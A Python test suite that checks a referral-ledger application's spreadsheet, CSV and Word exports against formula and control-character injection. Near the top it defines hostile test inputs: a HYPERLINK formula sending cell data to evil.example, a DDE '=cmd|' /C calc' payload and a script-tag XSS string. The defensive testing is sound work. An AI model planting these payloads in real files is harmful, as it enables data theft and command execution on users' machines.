"""Every export and document fed the nastiest text the forms and the import accept, plus text
with control characters put straight into the database (as records from before the import
refused them hold): each file opens, holds no live formula, and the ledger still round-trips.

Exports covered: the ledger's import file (xlsx and csv), the page tables (``ui.excel_bytes``),
the overdue CSV (``report overdue`` and the overdue page), the audit trail (csv and xlsx), the
催办通知 and the meeting's agenda, minutes and pack (docx).
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime

import openpyxl
import pandas as pd
import pytest
from docx import Document
from sqlalchemy import select, update

from data_access.commands import decisions as dc
from data_access.commands import meetings as mc
from data_access.commands.base import SYSTEM, Actor
from data_access.db import read_session, write_session
from data_access.documents import meeting_docs as md
from data_access.documents.reminder import ReminderLine, reminder_notice
from data_access.importing import (
    export_referrals_csv,
    export_referrals_xlsx,
    import_agencies,
    import_referrals,
    read_table,
)
from data_access.inert import FORMULA_STARTS, inert, uninert_csv
from data_access.models import AgendaItem, Decision, Meeting, Referral
from data_access.queries.audit import AuditFilter, export_audit_csv, export_audit_xlsx
from data_access.queries.overdue import CSV_HEADER, overdue_acknowledgements, overdue_csv
from tests.support.meeting_world import CHAIR, MEETING_ON, OFFICE, TODAY, build_world
from ui.components import excel_bytes

# What a form or the import lets through: formulas, leading + - @, HTML, very long text.
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
FORMULAS = [HYPERLINK, "=1+1", "+86 139 0000 0000", "-2+3", "@SUM(A1:A2)", "'quoted", "=cmd|' /C calc'!A0"]
HTML = "<script>alert('x')</script><b>粗体</b>"
LONG = "长" * 2000
# Only the database can hold these now (the forms and the import refuse them).
STORED_ONLY = ["标题\x0b换行", "\x01开头", "\t=1+1", "\r=2+2", "尾部\x1f\x7f"]
NASTY = FORMULAS + [HTML] + STORED_ONLY


def _no_formula_xlsx(blob: bytes) -> list:
    """Every cell value of every sheet, checking that none is a formula."""
    book = openpyxl.load_workbook(io.BytesIO(blob))  # not data_only: formulas would show as 'f'
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"live formula in {sheet.title}!{cell.coordinate}: {cell.value!r}"
                values.append(cell.value)
    with zipfile.ZipFile(io.BytesIO(blob)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    return values


def _csv_cells(blob: bytes | str) -> list[list[str]]:
    text = blob.decode("utf-8-sig") if isinstance(blob, bytes) else blob
    return list(csv.reader(io.StringIO(text, newline="")))


def _no_formula_csv(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), f"a spreadsheet would execute {cell!r}"


def _docx_text(blob: bytes) -> str:
    doc = Document(io.BytesIO(blob))  # opens
    with zipfile.ZipFile(io.BytesIO(blob)) as archive:
        body = archive.read("word/document.xml")
    assert b"fldSimple" not in body and b"instrText" not in body  # no field codes
    parts = [p.text for p in doc.paragraphs]
    parts += [c.text for t in doc.tables for r in t.rows for c in r.cells]
    return "\n".join(parts)


def test_inert_is_pure_and_reversible_for_csv():
    for text in FORMULAS + [HTML, LONG, "普通文字", ""]:
        assert inert(text) == text  # xlsx and docx keep writable text as it is
        assert uninert_csv(inert(text, csv=True)) == text
    for text in FORMULAS + ["\t=1", "\r=1"]:
        assert inert(text, csv=True).startswith("'")
    assert inert("a\x0bb\x01c\x00") == "a b c "
    assert inert("x" * 40000, limit=32767) == "x" * 32767
    assert inert(5) == 5 and inert(None) is None and inert(date(2026, 1, 1)) == date(2026, 1, 1)


@pytest.fixture
def hostile_ledger(empty_db):
    """Agencies and referrals with nasty text, imported as a clerk's file would bring them,
    then control characters put straight into the database."""
    agencies = io.StringIO()
    w = csv.writer(agencies)
    w.writerow(["单位名称", "单位类型", "联系人", "联系电话"])
    w.writerow(["青山镇", "镇街", "@陈静", "+86 138 0000 0001"])
    w.writerow(["=市住建局", "部门", HTML, "-1"])
    with write_session(empty_db) as s:
        import_agencies(s, SYSTEM, read_table(agencies.getvalue().encode(), "agencies.csv"))
    header = ["移送编号", "案件名称", "移送单位", "接收单位", "移送日期", "审批人", "受理告知日期", "受理结果",
              "受理说明", "结果反馈日期", "结果摘要"]
    rows = []
    for i, text in enumerate(FORMULAS + [HTML]):
        number = text[:40] if i % 2 else f"YS-2026-{i:06d}"
        rows.append([number, text, "青山镇", "=市住建局", "2026-03-02", text, "", "", "", "", ""])
    rows.append(["YS-2026-100000", "长文本", "青山镇", "=市住建局", "2026-03-02", "", "2026-03-03", "不予受理",
                 LONG, "", ""])
    rows.append(["YS-2026-100001", "多行", "=市住建局", "青山镇", "2026-03-02", "", "2026-03-03", "受理",
                 "", "2026-03-05", "第一行\n=第二行\n@第三行"])
    rows += [[f"YS-2026-2000{i:02d}", f"占位{i}", "青山镇", "=市住建局", "2026-03-02", "", "", "", "", "", ""]
             for i in range(len(STORED_ONLY))]
    sheet = io.StringIO()
    w = csv.writer(sheet)
    w.writerow(header)
    # A clerk's csv marks text as text with a leading ' (as Excel does), which the import removes.
    w.writerows([inert(v, csv=True) for v in row] for row in rows)
    actor = Actor(username="=evil", role="office")
    with write_session(empty_db) as s:
        result = import_referrals(s, actor, read_table(sheet.getvalue().encode(), "=cmd.csv"),
                                  filename="=cmd.csv", today=date(2026, 11, 21))
    assert result.created == len(rows)
    with write_session(empty_db) as s:
        for i, text in enumerate(STORED_ONLY):
            s.execute(update(Referral).where(Referral.number == f"YS-2026-2000{i:02d}")
                      .values(title=text, approved_by=text[:50]))
    return empty_db


def test_ledger_exports_hold_no_formula_and_round_trip(hostile_ledger):
    engine = hostile_ledger
    with read_session(engine) as s:
        stored = {r.number: r.title for r in s.scalars(select(Referral))}
        xlsx = export_referrals_xlsx(s)
        csv_blob = export_referrals_csv(s)
    values = _no_formula_xlsx(xlsx)
    for text in FORMULAS + [HTML, LONG]:
        assert text in values  # as a text cell, unchanged
    book = openpyxl.load_workbook(io.BytesIO(xlsx))
    hyperlink = next(c for row in book.active.iter_rows() for c in row if c.value == HYPERLINK)
    assert hyperlink.data_type == "s" and hyperlink.quotePrefix
    assert "标题 换行" in values and " 开头" in values  # control characters written as spaces

    cells = _csv_cells(csv_blob)
    assert cells[0][:5] == ["移送编号", "案件名称", "违法领域", "移送单位", "接收单位"]
    _no_formula_csv(cells)
    assert "'" + HYPERLINK in [c for row in cells for c in row]

    for name, blob in (("again.xlsx", xlsx), ("again.csv", csv_blob)):
        sheet = read_table(blob, name)
        assert {r["移送编号"]: r["案件名称"] for r in sheet} == {n: inert(t) for n, t in stored.items()}
        with write_session(engine) as s:
            result = import_referrals(s, SYSTEM, sheet, filename=name, today=date(2026, 11, 21))
        # The first re-import stores the cleaned text of the records holding control
        # characters (and trims them, as the forms do); nothing else changes, and the second
        # changes nothing at all.
        dirty = sum(1 for t in stored.values() if inert(t).strip() != t)
        assert (result.created, result.updated) == (0, dirty if name == "again.xlsx" else 0)
    with read_session(engine) as s:
        assert {r.number: r.title for r in s.scalars(select(Referral))} == {
            n: inert(t).strip() for n, t in stored.items()}


def test_overdue_csv_and_audit_exports_are_inert(hostile_ledger):
    engine = hostile_ledger
    with read_session(engine) as s:
        rows = overdue_acknowledgements(s, date(2026, 11, 21))
        text = overdue_csv(rows)
        audit_csv = export_audit_csv(s, OFFICE, AuditFilter())
        audit_xlsx = export_audit_xlsx(s, OFFICE, AuditFilter())
    cells = _csv_cells(text)
    assert tuple(cells[0]) == CSV_HEADER  # CONTRACT.md's columns, exactly
    assert len(cells) == len(rows) + 1 and rows
    _no_formula_csv(cells)
    assert any(row[1] == "'=市住建局" for row in cells[1:])  # the agency, protected

    audit = _csv_cells(audit_csv)
    _no_formula_csv(audit)
    assert any("'=evil" in row for row in audit) and any("'=cmd.csv" in row for row in audit)
    values = _no_formula_xlsx(audit_xlsx)
    assert "=evil" in values and "=cmd.csv" in values


def test_page_tables_export_inert_cells():
    frame = pd.DataFrame({"案件名称": NASTY + [LONG], "超期天数": list(range(len(NASTY) + 1))})
    values = _no_formula_xlsx(excel_bytes({"移送台账": frame}))
    assert HYPERLINK in values and "标题 换行" in values and 3 in values


def test_reminder_notice_survives_any_stored_text():
    lines = [ReminderLine(f"YS-{i}" if i % 2 else text[:20], text, text, date(2026, 3, 2), date(2026, 3, 9), 10, False)
             for i, text in enumerate(NASTY + [LONG])]
    text = _docx_text(reminder_notice("=市住建局\x0b", lines, date(2026, 4, 1)))
    assert HYPERLINK in text and "标题 换行" in text and HTML in text and "=市住建局" in text


def test_meeting_documents_survive_any_stored_text(empty_db):
    w = build_world()
    m = mc.schedule_meeting(OFFICE, held_on=MEETING_ON, place="+3号会议室", start_time="14:30",
                            chair_name="@王副市长", observers=[("=李明", HTML[:20])], today=TODAY)
    item = mc.submit_agenda_item(w.head(w.east), m.id, title=HYPERLINK, kind="policy", presenter="-陈主任",
                                 minutes=15, today=TODAY)
    mc.review_agenda_item(OFFICE, item.id, "approved", expected_version=None)
    mc.approve_agenda(CHAIR, m.id, expected_version=None)
    mc.start_session(CHAIR, m.id, now=datetime(2026, 4, 20, 14, 30), expected_version=None)
    dc.record_decision(CHAIR, m.id, text="=1+1 由城东街道牵头", lead_agency_id=w.east, co_agency_ids=[],
                       due_on=date(2026, 5, 15), item_id=item.id, today=MEETING_ON, expected_version=None)
    mc.record_attendance(OFFICE, m.id, {w.east: "present", w.housing: ("deputised", "=张科长")}, expected_version=None)
    mc.close_meeting(CHAIR, m.id, expected_version=None)
    with write_session() as s:  # what older records may hold
        s.execute(update(Meeting).where(Meeting.id == m.id).values(title="联席会议\x0b\x01"))
        s.execute(update(AgendaItem).where(AgendaItem.id == item.id).values(title=HYPERLINK + "\x0b"))
        s.execute(update(Decision).where(Decision.meeting_id == m.id).values(text="\x01决定\x1f" + LONG))
        s.execute(update(Referral).values(title="\x0b" + HTML))
    with read_session() as s:
        agenda = _docx_text(md.agenda_docx(s, m.id))
        minutes = _docx_text(md.minutes_docx(s, m.id, issued_on=date(2026, 4, 21), today=date(2026, 4, 21)))
        pack = _docx_text(md.meeting_pack_docx(s, m.id, as_of=TODAY, today=TODAY))
    assert HYPERLINK in agenda and "@王副市长" in agenda
    assert " 决定 " in minutes
    assert HTML in pack
